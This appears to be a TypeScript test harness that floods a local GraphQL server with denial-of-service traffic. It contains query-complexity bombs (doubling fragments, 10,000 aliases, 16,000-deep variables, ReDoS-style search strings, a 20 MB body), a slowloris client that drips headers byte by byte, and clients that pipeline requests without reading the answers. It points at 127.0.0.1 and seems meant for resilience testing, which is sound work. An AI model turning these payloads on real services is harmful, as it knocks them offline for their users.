// Documents and connections that are meant to take the service from others, each made anew for every request, so that nothing
// of it is known. In a process of its own: what it costs to attack is no cost of the bystander.
import { Agent, request as send } from 'node:http';
import { connect, type Socket } from 'node:net';

export interface Target {
  readonly port: number;
  readonly key: string;
}

const list = (count: number, each: (nth: number) => string) =>
  Array.from({ length: count }, (_, nth) => each(nth)).join(' ');
const document = (query: string, variables: object = {}) => JSON.stringify({ query, variables });

/** What is sent the nth time. */
export const bodies: Readonly<Record<string, (nth: number) => string | Buffer>> = {
  'a cycle of 40 levels': (nth) =>
    document(
      `{ companies { nodes { ${'owner { companies { nodes { '.repeat(13)} id a${nth}: id ${'} } } '.repeat(13)} } } }`,
    ),
  'fragments that double 49 times': (nth) =>
    document(
      `{ ...F0 a${nth}: __typename } ${list(49, (at) => `fragment F${at} on Query { ...F${at + 1} ...F${at + 1} }`)} fragment F49 on Query { __typename }`,
    ),
  '10,000 aliases': (nth) => document(`{ a${nth}: __typename ${list(10_000, (at) => `b${at}: __typename`)} }`),
  'a field 490 times': (nth) => document(`{ companies { nodes { a${nth}: id ${'owner { name } '.repeat(245)} } } }`),
  '25 lists of 100 with 400 fields': (nth) =>
    document(
      `{ ${list(25, (at) => `a${at}x${nth}: companies(first: 100) { nodes { id name city industry website phone owner { name } } }`)} }`,
    ),
  'introspection, each time another': (nth) =>
    document(
      `{ a${nth}: __schema { types { name fields { name args { name type { name ofType { name ofType { name } } } } type { name ofType { name } } } } } }`,
    ),
  'variables 16,000 deep': (nth) =>
    `{"query":"query A${nth}($f: CompanyFilter) { companies(filter: $f) { totalCount } }","variables":{"f":${'{"not":'.repeat(16_000)}{}${'}'.repeat(16_000)}}}`,
  'a body of 20 MB': () => large,
  'searches like patterns': (nth) =>
    document('query ($t: String!) { search(text: $t, first: 50) { __typename } }', {
      t: `(a+)+$ ^(([a-z])+.)+ %_% ${nth} ${'ab '.repeat(40)}`,
    }),
  'filters that no index serves': (nth) =>
    document(
      'query ($f: CompanyFilter) { companies(filter: $f, first: 100) { totalCount(mode: EXACT) nodes { id } } }',
      { f: { or: Array.from({ length: 40 }, (_, at) => ({ name: { contains: `%_${nth} ${at}` } })) } },
    ),
  'nonsense of 50,000 characters': (nth) => document(`{ ${'a@b('.repeat(12_000)}${nth}`),
};

const large = Buffer.alloc(20 * 1024 * 1024, ' ');

/** One client that sends the next as soon as the last is answered. Answers how many were. */
export function attack({ port, key }: Target, make: (nth: number) => string | Buffer): () => number {
  const agent = new Agent({ keepAlive: true, maxSockets: 1 });
  let isOver = false;
  let sent = 0;
  const next = () => {
    if (isOver) return;
    const body = make(sent++);
    const headers = {
      'content-type': 'application/json',
      authorization: `Bearer ${key}`,
      'content-length': Buffer.byteLength(body),
    };
    let isDone = false;
    const again = () => {
      if (isDone) return;
      isDone = true;
      setImmediate(next);
    };
    const request = send({ agent, port, host: '127.0.0.1', method: 'POST', path: '/graphql', headers });
    request.once('error', again);
    request.once('response', (response) => response.resume().once('close', again));
    request.end(body);
  };
  next();
  return () => {
    isOver = true;
    agent.destroy();
    return sent;
  };
}

/** 500 clients whose headers come byte by byte; each that is cut off comes again. */
export function drip({ port }: Target): () => number {
  const sockets = new Set<Socket>();
  let opened = 0;
  const open = () => {
    opened++;
    const socket = connect(port, '127.0.0.1');
    socket
      .on('error', () => {})
      .on('data', () => {})
      .once('close', () => sockets.delete(socket));
    socket.write('POST /graphql HTTP/1.1\r\nhost: x\r\nx-note: ');
    sockets.add(socket);
  };
  const timer = setInterval(() => {
    while (sockets.size < 500) open();
    for (const socket of sockets) if (socket.writable) socket.write('a');
  }, 100);
  return () => {
    clearInterval(timer);
    for (const socket of sockets) socket.destroy();
    return opened;
  };
}

/** 100 clients that ask for much, again and again, and read nothing. */
export function ignore({ port, key }: Target): () => number {
  const query = encodeURIComponent(
    '{ companies(first: 100) { nodes { id name city industry website phone owner { name } } } }',
  );
  const request = `GET /graphql?query=${query} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${key}\r\n\r\n`;
  const sockets = Array.from({ length: 100 }, () => {
    const socket = connect(port, '127.0.0.1').on('error', () => {});
    socket.pause();
    socket.write(request.repeat(100));
    return socket;
  });
  return () => {
    for (const socket of sockets) socket.destroy();
    return 100 * 100;
  };
}
